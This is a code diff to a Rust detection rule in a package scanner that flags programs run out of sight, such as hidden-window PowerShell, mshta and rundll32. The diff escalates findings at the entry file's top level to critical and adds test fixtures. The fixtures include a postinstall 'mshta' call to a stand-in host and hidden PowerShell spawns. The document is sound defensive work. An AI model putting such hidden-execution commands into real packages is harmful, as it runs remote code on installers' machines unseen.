@@ -8,7 +8,8 @@ declare_rule! {
     /// Finds commands that run programs out of the user's sight or through
     /// Windows' signed proxy binaries: PowerShell with a hidden window
     /// (`-WindowStyle Hidden`, `-w hidden`), `mshta`, `rundll32`,
-    /// `regsvr32 /i:`, `wscript`/`cscript`. High; critical at install.
+    /// `regsvr32 /i:`, `wscript`/`cscript`. High; critical at install or at
+    /// the top level of the package's entry file (it runs on import).
     ///
     /// ## Why is this bad?
     /// A package has nothing to hide from the person at the keyboard. These
@@ -65,6 +66,23 @@ pub(crate) fn hides(command: &str) -> Option<&'static str> {
     None
 }
 
+/// A process started at the top level of the package's entry file: it runs
+/// as soon as anyone imports the package, before any function is called.
+fn at_import(ctx: &ScanContext<'_>, at: &palisade_diagnostics::Fact) -> bool {
+    let Some(m) = &ctx.package.manifest else {
+        return false;
+    };
+    let Some(entry) = crate::checkers::manifest::resolve_entry(".", ctx.package, m) else {
+        return false;
+    };
+    at.location.path == entry
+        && ctx.facts.other.iter().any(|o| {
+            o.kind == "top-level-process"
+                && o.at.location.path == at.location.path
+                && o.at.location.line == at.location.line
+        })
+}
+
 impl Rule for HiddenExecution {
     fn meta(&self) -> &'static RuleMeta {
         &Self::META
@@ -80,7 +98,7 @@ impl Rule for HiddenExecution {
             if !seen.insert((at.location.path.clone(), at.location.line)) {
                 continue;
             }
-            let severity = if at.install_time {
+            let severity = if at.install_time || at_import(ctx, at) {
                 Severity::Critical
             } else {
                 Severity::High
@@ -109,6 +127,17 @@ mod tests {
             &[
                 Case::Js("require('child_process').spawn('powershell.exe', ['-WindowStyle', 'Hidden', '-Command', 'Start-Process x']);"),
                 Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"mshta http://x.invalid/p.hta"}}"#),
+                // At the top of the entry file it runs on import: critical.
+                Case::Files(&[
+                    ("package.json", r#"{"name":"a","main":"main.js"}"#),
+                    ("main.js", "const { spawn } = require('child_process');\nspawn('powershell.exe', ['powershell -WindowStyle hidden -Command Get-Date']);\n"),
+                ]),
+                // Inside a function of the entry file, or in another file: high.
+                Case::Files(&[
+                    ("package.json", r#"{"name":"a","main":"main.js"}"#),
+                    ("main.js", "const { spawn } = require('child_process');\nexports.open = () => spawn('powershell.exe', ['-w', 'hidden', '-c', 'start x']);\n"),
+                    ("tool.js", "require('child_process').spawn('powershell.exe', ['-w', 'hidden', '-c', 'start x']);\n"),
+                ]),
             ],
             &[
                 Case::Js("require('child_process').execFile('powershell.exe', ['-NoProfile', '-Command', 'Get-ItemProperty HKLM:\\\\Software']);"),
